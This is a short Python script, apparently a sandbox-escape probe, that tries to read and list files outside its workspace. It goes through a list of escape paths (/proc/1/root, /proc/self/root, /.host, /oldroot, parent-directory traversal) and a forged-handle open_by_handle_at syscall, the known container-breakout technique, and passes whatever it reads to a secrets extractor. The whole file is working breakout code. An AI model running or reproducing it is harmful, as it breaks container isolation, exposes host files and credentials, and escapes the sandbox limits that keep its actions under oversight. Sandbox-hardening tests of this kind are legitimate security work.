"""Reads, and lists, what lies outside of the workspace, by every path that might lead there."""

# outside: ^(?!.*( in | handle)).* plain$
import os

from attack import GIVEN, attempt, read, syscall, secrets

WAYS = {
    "plain": "",
    "in host": "/.host",
    "in oldroot": "/oldroot",
    "in newroot": "/newroot",
    "in self root": "/proc/self/root",
    "in init root": "/proc/1/root",
    "in init cwd": "/proc/1/cwd" + "/.." * 12,
    "in init host": "/proc/1/root/.host",
    "in cwd": "/proc/self/cwd" + "/.." * 12,
    "in parents": "/.." * 12,
    "in task root": f"/proc/self/task/{os.getpid()}/root/.host",
}
for what, path in GIVEN["files"].items():
    for way, prefix in WAYS.items():
        attempt(f"{what} {way}", read, prefix + path)
for what, path in GIVEN["folders"].items():
    for way, prefix in WAYS.items():
        attempt(f"{what} {way}", os.listdir, prefix + path)


def by_handle(folder):
    import ctypes

    kind, blob = GIVEN["handle"]
    blob = bytes.fromhex(blob)

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("blob", ctypes.c_char * 128)]

    handle = Handle(len(blob), kind, blob)
    at = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    fd = syscall((304, 265), at, ctypes.byref(handle), os.O_RDONLY)
    return secrets(os.read(fd, 4096)) or "opened"


if GIVEN["handle"]:
    for folder in ("/", "/usr", "/workspace" if os.path.isdir("/workspace") else ".", "/tmp"):
        # ESTALE and EOPNOTSUPP: another file system. The right to try is what is asked for.
        attempt(f"{folder} handle", by_handle, folder)
